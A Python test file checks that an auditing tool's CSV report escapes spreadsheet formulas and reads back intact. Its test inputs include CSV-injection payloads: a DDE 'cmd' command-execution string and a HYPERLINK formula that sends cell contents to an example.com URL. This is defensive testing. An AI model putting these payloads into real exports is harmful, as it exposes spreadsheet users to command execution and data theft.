"""CSV: whole when read back, and no cell that a spreadsheet would run."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from auditor.findings import Level, Report
from auditor.reporters.csv_report import render
from auditor.reporters.text import plain
from tests.reporters.samples import CLEAN, UNKNOWN, VIOLATING, WIDE, finding, report
from tests.reporters.test_text import ANY_TEXT

STARTS = ("=", "+", "-", "@", "\t", "\r", "|", "%", "\uff1d", "\uff0b", "\uff0d", "\uff20")
"""What a spreadsheet takes for the start of a formula."""


def rows(text: str) -> list[dict[str, str]]:
    """Return the rows as Python's reader finds them, by column."""
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"), newline=""), strict=True))


def formulas(text: str) -> list[str]:
    """Return the cells that would be run: read with commas, and with semicolons as half of Europe does."""
    read = (csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline=""), delimiter=sign) for sign in ",;\t")
    cells = (cell.lstrip(" '\"") if cell[:1] != "'" else "" for table in read for row in table for cell in row)
    return [cell for cell in cells if cell.startswith(STARTS)]


def test_every_finding_and_gap_is_a_row(case: Report) -> None:
    """The reader of another finds the same findings, in order, with all of their texts."""
    found = rows(render(case))

    assert [each["id"] for each in found if each["row"] == "finding"] == [each.id for each in case.findings]
    assert sum(each["row"] == "gap" for each in found) == len(case.gaps)
    assert [each["state"] for each in found if each["row"] == "waiver"] == [each.state for each in case.waivers]
    assert [each["message"] for each in found if each["row"] == "finding"] == [
        plain(each.message) for each in case.findings
    ]


def test_requirements_are_rows_on_request() -> None:
    """With --all-results, each requirement is a row with its outcome."""
    found = rows(render(CLEAN, all_results=True))

    assert [each["level"] for each in found if each["row"] == "requirement"] == [
        each.outcome.value for each in CLEAN.results
    ]
    assert rows(render(CLEAN)) == []


def test_no_cell_is_a_formula(case: Report) -> None:
    """Whatever the separator, no cell starts like a formula."""
    assert formulas(render(case, all_results=True)) == []


@pytest.mark.parametrize(
    "name",
    [
        '=HYPERLINK("https://example.com?x="&A1,"click")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "  =1+1",
        '"=1+1',
        "a;=1+1",
        'a;"=1+1',
        "a; -1+1",
        "\uff1d1+1",
        "%0A-3",
    ],
)
def test_formulas_become_text(name: str) -> None:
    """An apostrophe before the sign makes it text; the name is still there to be read."""
    text = render(report(findings=(finding(name, Level.ERROR, name, name, evidence=(name, name), fix=name),)))

    assert formulas(text) == []
    assert rows(text)[0]["message"].replace("'", "") == plain(name).replace("'", "")


@given(ANY_TEXT | st.text(alphabet="=+-@;,\"'\t 1A"))
def test_any_name_is_text_and_read_back(name: str) -> None:
    """Whatever a name is made of, it runs nowhere, and the row stays one row."""
    text = render(report(findings=(finding("c", Level.ERROR, name, name, evidence=(name,), fix=name),)))
    (row,) = rows(text)

    assert formulas(text) == []
    assert row["check"] == "c"


def test_lines_end_as_the_standard_says_and_excel_is_told_the_encoding() -> None:
    """CR LF at each end; a byte order mark only where there is more than ASCII."""
    assert render(UNKNOWN).endswith('"\r\n')
    assert render(CLEAN).isascii()
    assert render(VIOLATING).startswith("\ufeff")
    assert WIDE in render(VIOLATING)


def test_a_cell_is_no_longer_than_excel_takes() -> None:
    """A longer text is cut, and says so."""
    (row,) = rows(render(report(findings=(finding("c", Level.ERROR, "t", "x" * 40_000),))))

    assert len(row["message"]) <= 32_767
    assert row["message"].endswith("x...")
